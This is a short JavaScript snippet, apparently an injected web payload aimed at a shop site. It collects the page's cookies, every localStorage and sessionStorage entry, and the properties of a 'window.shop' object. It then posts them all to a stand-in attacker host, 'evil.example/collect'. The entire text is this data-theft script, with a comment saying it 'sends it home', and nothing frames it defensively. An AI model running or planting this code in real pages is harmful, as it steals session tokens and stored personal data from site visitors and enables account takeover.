// Reads everything that a script of this page can read, and sends it home.
var found = {
  localStorage: {},
  sessionStorage: {},
  variables: {},
  cookie: document.cookie
};
for (var i = 0; i < localStorage.length; i++) {
  found.localStorage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
}
for (var j = 0; j < sessionStorage.length; j++) {
  found.sessionStorage[sessionStorage.key(j)] = sessionStorage.getItem(sessionStorage.key(j));
}
for (var name in window.shop) {
  found.variables[name] = window.shop[name];
}
fetch('https://evil.example/collect', {
  method: 'POST',
  mode: 'no-cors',
  body: JSON.stringify(found)
});
